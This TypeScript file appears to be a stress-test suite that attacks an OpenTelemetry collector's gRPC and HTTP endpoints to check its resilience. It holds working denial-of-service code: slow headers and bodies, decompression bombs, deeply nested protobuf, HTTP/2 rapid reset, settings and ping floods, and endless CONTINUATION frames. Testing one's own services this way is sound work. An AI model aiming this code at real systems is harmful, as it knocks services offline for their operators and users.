import { once } from 'node:events';
import { connect as connectHttp2, constants } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync, constants as zlib, zstdCompressSync } from 'node:zlib';

/** Where the attacked agent listens. */
export interface Target {
  readonly grpc: string;
  readonly http: string;
}

/** Does harm until the signal aborts, or until it has done its worst. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

export const attacks: Readonly<Record<string, Attack>> = {
  '1,000 idle connections': async ({ grpc, http }, signal) => {
    using connections = new Connections();
    for (let i = 0; i < 500; i++) await Promise.all([connections.open(grpc), connections.open(http)]);
    await aborted(signal);
  },

  'headers that come byte by byte': async ({ http }, signal) => {
    using connections = new Connections();
    const open = await Promise.all(Array.from({ length: 300 }, () => connections.open(http)));
    for (const socket of open) socket.write('POST /v1/metrics HTTP/1.1\r\nHost: a\r\nx: ');
    for (; !signal.aborted; await wait(100)) for (const socket of open) socket.write('x');
  },

  'bodies that come byte by byte': async ({ http }, signal) => {
    using connections = new Connections();
    const open = await Promise.all(Array.from({ length: 300 }, () => connections.open(http)));
    const head =
      'POST /v1/metrics HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\nContent-Length: 19000000\r\n\r\n';
    for (const socket of open) socket.write(head);
    for (; !signal.aborted; await wait(100)) for (const socket of open) socket.write('x');
  },

  'bodies without end': async ({ http }, signal) => {
    using connections = new Connections();
    const head =
      'POST /v1/metrics HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\nTransfer-Encoding: chunked\r\n\r\n';
    const piece = `10000\r\n${'x'.repeat(65_536)}\r\n`;
    await Promise.all(
      Array.from({ length: 20 }, () =>
        untilAborted(signal, async () => {
          const socket = await connections.open(http);
          socket.write(head);
          for (; socket.writable && !signal.aborted; await wait(5)) if (!socket.writableNeedDrain) socket.write(piece);
        }),
      ),
    );
  },

  'messages of a gigabyte, announced': async ({ grpc }, signal) => {
    const announced = Buffer.from([0, 0x40, 0, 0, 0]);
    await untilAborted(signal, () => callGrpc(grpc, Buffer.concat([announced, Buffer.alloc(100_000)]), {}));
  },

  'compressed bombs over gRPC': async ({ grpc }, signal) => {
    const packed = bombs();
    await untilAborted(signal, async () => {
      for (const [encoding, bytes] of packed) {
        await Promise.all(
          Array.from({ length: 8 }, () => callGrpc(grpc, framed(1, bytes), { 'grpc-encoding': encoding })),
        );
      }
    });
  },

  'compressed bombs over HTTP': async ({ http }, signal) => {
    const packed = bombs();
    await untilAborted(signal, async () => {
      for (const [encoding, body] of packed) {
        await Promise.all(Array.from({ length: 8 }, () => post(http, body, { 'content-encoding': encoding })));
      }
    });
  },

  'values nested without end': async ({ http }, signal) => {
    const body = nested(50_000);
    await untilAborted(signal, () => Promise.all(Array.from({ length: 4 }, () => post(http, body, {}))));
  },

  'streams opened and reset at once': async ({ grpc }, signal) => {
    await untilAborted(signal, async () => {
      const session = connectHttp2(`http://${grpc}`);
      session.on('error', () => {});
      for (let i = 0; i < 2000 && !session.destroyed && !signal.aborted; i++) {
        const stream = session.request(grpcHeaders({}));
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        if (i % 100 === 99) await wait(1);
      }
      session.destroy();
    });
  },

  'floods of settings and pings': async ({ grpc }, signal) => {
    using connections = new Connections();
    const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
    const ping = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
    const flood = Buffer.concat(Array.from({ length: 2000 }, (_, i) => (i % 2 === 0 ? settings : ping)));
    await untilAborted(signal, async () => {
      const socket = await connections.open(grpc);
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      // Answers are not read: they pile up on the other side.
      socket.pause();
      while (!signal.aborted && socket.writable) {
        if (!socket.writableNeedDrain) socket.write(flood);
        await wait(5);
      }
    });
  },

  'headers that go on and on': async ({ grpc }, signal) => {
    using connections = new Connections();
    const field = Buffer.concat([
      Buffer.from([0, 4]),
      Buffer.from('x-hd'),
      Buffer.from([0x7f, 0x81, 0x7f]),
      Buffer.alloc(16_384, 97),
    ]);
    const frame = (type: number, payload: Buffer) => {
      const head = Buffer.from([0, 0, 0, type, 0, 0, 0, 0, 1]);
      head.writeUIntBE(payload.length, 0, 3);
      return Buffer.concat([head, payload]);
    };
    await untilAborted(signal, async () => {
      const socket = await connections.open(grpc);
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]));
      socket.write(frame(1, field.subarray(0, 16_384)));
      while (!signal.aborted && socket.writable) {
        if (!socket.writableNeedDrain) socket.write(frame(9, field.subarray(0, 16_384)));
        await wait(1);
      }
    });
  },
};

/** Sockets that are destroyed together; what the other side does to them is no error. */
class Connections {
  readonly #open: Socket[] = [];

  async open(address: string): Promise<Socket> {
    const [host, port] = address.split(':');
    const socket = connect(Number(port), host);
    this.#open.push(socket);
    socket.on('error', () => {});
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
    socket.resume();
    return socket;
  }

  [Symbol.dispose](): void {
    for (const socket of this.#open) socket.destroy();
  }
}

async function untilAborted(signal: AbortSignal, act: () => Promise<unknown>): Promise<void> {
  while (!signal.aborted) {
    await act();
    await wait(1);
  }
}

async function aborted(signal: AbortSignal): Promise<void> {
  if (!signal.aborted) await once(signal, 'abort');
}

function grpcHeaders(more: Readonly<Record<string, string>>) {
  return {
    ':method': 'POST',
    ':path': '/opentelemetry.proto.collector.metrics.v1.MetricsService/Export',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...more,
  };
}

function framed(flag: number, message: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head[0] = flag;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** One call on a connection of its own; resolves however it ends, after 2 s at the latest. */
async function callGrpc(address: string, body: Buffer, headers: Readonly<Record<string, string>>): Promise<void> {
  const session = connectHttp2(`http://${address}`);
  session.on('error', () => {});
  const stream = session.request(grpcHeaders(headers));
  stream.on('error', () => {});
  stream.resume().end(body);
  await Promise.race([new Promise((resolve) => stream.once('close', resolve)), wait(2000)]);
  session.destroy();
}

/** Resolves however it ends, after 2 s at the latest. */
async function post(address: string, body: Buffer, headers: Readonly<Record<string, string>>): Promise<void> {
  const response = await fetch(`http://${address}/v1/metrics`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-protobuf', ...headers },
    body: new Uint8Array(body),
    signal: AbortSignal.timeout(2000),
  }).catch(() => undefined);
  await response?.arrayBuffer().catch(() => undefined);
}

/** 256 MiB of zeros; those that tell their size, and those that tell another or none. */
function bombs(): readonly (readonly [encoding: string, bytes: Buffer])[] {
  const zeros = Buffer.alloc(256 << 20);
  const gzip = gzipSync(zeros);
  return [
    ['gzip', gzip],
    ['gzip', Buffer.concat([gzip, gzipSync('x')])],
    ['zstd', zstdCompressSync(zeros)],
    ['zstd', zstdCompressSync(zeros, { params: { [zlib.ZSTD_c_contentSizeFlag]: 0 } })],
  ];
}

/** A resource whose attribute is a list in a list, so many times. */
function nested(depth: number): Buffer {
  const parts: Buffer[] = [];
  let length = 0;
  const wrap = (tag: number) => {
    const head = Buffer.from([tag, ...varint(length)]);
    parts.push(head);
    length += head.length;
  };
  // AnyValue.array_value 5 { ArrayValue.values 1 }
  for (let i = 0; i < depth; i++) wrap(i % 2 === 0 ? 0x0a : 0x2a);
  // KeyValue.value 2, Resource.attributes 1, ResourceMetrics.resource 1, resource_metrics 1
  for (const tag of [0x12, 0x0a, 0x0a, 0x0a]) wrap(tag);
  return Buffer.concat(parts.toReversed());
}

function varint(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)];
}
